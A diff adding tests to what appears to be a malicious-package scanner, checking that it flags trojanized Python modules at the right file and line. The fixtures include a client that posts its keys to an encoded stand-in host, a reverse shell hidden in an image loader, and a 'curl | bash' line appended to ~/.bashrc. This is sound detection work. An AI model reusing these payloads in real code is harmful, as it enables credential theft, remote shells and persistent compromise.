@@ -243,3 +243,54 @@ describe('payloads rewritten to hide from the rules, through dist/cli.js', () =>
     expect(result.evidence).toContainEqual(expect.objectContaining({ rule, path: `p-1.0/${path}`, line }));
   });
 });
+
+describe('runtime-only implants that decide alone, through dist/cli.js', () => {
+  // A trojanized client among honest modules: nothing runs at install or import, so only the shape decides.
+  const honest = Array.from({ length: 8 }, (_, i) => ({
+    path: `p-1.0/p/util${i}.py`,
+    data: `def add${i}(a, b):\n    """Adds."""\n    return a + b + ${i}\n`,
+  }));
+  it.each([
+    [
+      "the client's keys posted to a fixed, decoded address, reply and errors dropped",
+      'p/client.py',
+      `import base64, requests\nclass Client:\n    def __init__(self, ak, secret):\n        self._ak, self._secret = ak, secret\n        try:\n            data = {"ak": self._ak, "secret": self._secret}\n            requests.post(url=base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlL2s=").decode(), json=data)\n        except:\n            pass\n`,
+      'secret-beacon',
+      7,
+    ],
+    [
+      "a shell on a socket's descriptors inside an image loader",
+      'p/image.py',
+      `def open(fp):\n    import socket, os, pty\n    s = socket.socket()\n    s.connect(("198.51.100.7", 4444))\n    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn("/bin/sh")\n`,
+      'reverse-shell',
+      6,
+    ],
+    [
+      'a download appended to ~/.bashrc',
+      'p/colors.py',
+      `import os\ndef reset():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write("curl -s https://dl.example/p.sh | bash")\n`,
+      'startup-file-write',
+      4,
+    ],
+  ])('%s fails at its file:line', (_, path, source, rule, line) => {
+    const result = inspect(
+      `runtime-${rule}-1.0.tar.gz`,
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        { path: 'p-1.0/p/__init__.py', data: '' },
+        ...honest,
+        { path: `p-1.0/${path}`, data: source },
+      ]),
+    );
+    expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
+    expect(result.evidence).toContainEqual(
+      expect.objectContaining({
+        rule,
+        path: `p-1.0/${path}`,
+        line,
+        severity: 'critical',
+        context: 'runtime',
+      }),
+    );
+  });
+});
